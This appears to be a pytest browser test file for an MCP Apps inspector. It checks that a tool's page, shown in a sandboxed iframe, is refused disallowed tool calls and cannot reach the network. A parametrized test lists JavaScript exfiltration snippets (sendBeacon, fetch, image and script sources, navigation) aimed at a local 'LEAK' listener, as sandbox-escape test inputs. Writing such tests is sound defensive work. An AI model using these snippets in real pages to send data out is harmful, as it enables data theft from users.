"""A page of MCP Apps beside the result of its call, in a real browser."""

from __future__ import annotations

import json
import socket
from collections.abc import Callable
from contextlib import suppress
from typing import Any

import pytest

from pegboard import Toolkit
from tests.plugins.inspector.clock import clock_board
from tests.plugins.inspector.served import Client

pytestmark = pytest.mark.slow


def test_the_page_is_told_of_its_call_and_reaches_nothing(
    open_page: Callable[..., Any], inspected: Callable[[Toolkit], Client]
) -> None:
    page = open_page(inspected(clock_board()))
    page.goto(page.url.partition("#")[0] + "#/tools/clock__now")
    page.get_by_label("zone").fill("UTC")
    page.get_by_role("button", name="Run", exact=True).click()
    page.get_by_text("Page ui://clock/page").click()
    element = page.locator("iframe")
    assert element.get_attribute("sandbox") == "allow-scripts"
    frame = page.frame_locator("iframe")
    frame.get_by_text("done").wait_for()
    assert json.loads(frame.locator("#input").inner_text()) == {"zone": "UTC"}
    result = json.loads(frame.locator("#result").inner_text())
    assert (result["isError"], result["structuredContent"]) == (False, {"tool": "now", "zone": "UTC"})
    again = json.loads(frame.locator("#again").inner_text())
    assert again["structuredContent"] == {"tool": "refresh", "zone": "CET"}
    assert frame.locator("#refused li").all_inner_texts() == [
        "not_for_pages: this page can call no tool 'not_for_pages'",
        "other: this page can call no tool 'other'",
        "shell: this page can call no tool 'shell'",
        "nothing: this page can call no tool 'nothing'",
        "link: -32601",
        "fetch",
        "parent",
        "cookie",
        "storage",
        "done",
    ]
    assert element.evaluate("each => each.getBoundingClientRect().height") == 123


@pytest.mark.parametrize(
    "script",
    [
        "location = LEAK",
        "top.location = LEAK",
        "open(LEAK)",
        "new Image().src = LEAK",
        "navigator.sendBeacon(LEAK, 'x')",
        "fetch(LEAK, { mode: 'no-cors' })",
        "document.head.append(Object.assign(document.createElement('script'), { src: LEAK }))",
        "document.body.append(Object.assign(document.createElement('iframe'), { src: LEAK }))",
    ],
)
def test_no_page_reaches_the_network(browser: Any, inspected: Callable[[Toolkit], Client], script: str) -> None:
    with socket.create_server(("127.0.0.1", 0)) as outside:
        outside.settimeout(0.7)
        leak = f"const LEAK = 'http://127.0.0.1:{outside.getsockname()[1]}/leak';"
        html = f"<body><p>here</p><script>{leak} setTimeout(() => {{ {script} }}, 100)</script>"
        client = inspected(clock_board(html))
        context = browser.new_context()
        context.set_default_timeout(20_000)
        try:
            page = context.new_page()
            page.goto(client.url)
            page.goto(page.url.partition("#")[0] + "#/tools/clock__now")
            page.get_by_role("button", name="Run", exact=True).click()
            with page.expect_response(lambda response: "/apps/" in response.url):
                page.get_by_text("Page ui://clock/page").click()
            page.wait_for_timeout(800)
            assert page.url.startswith(client.origin)
            # A browser may connect before it looks at the policy, and sends nothing then.
            with suppress(TimeoutError):
                connection, _ = outside.accept()
                with connection:
                    connection.settimeout(0.7)
                    sent = connection.recv(100)
                    assert sent == b""
        finally:
            context.close()
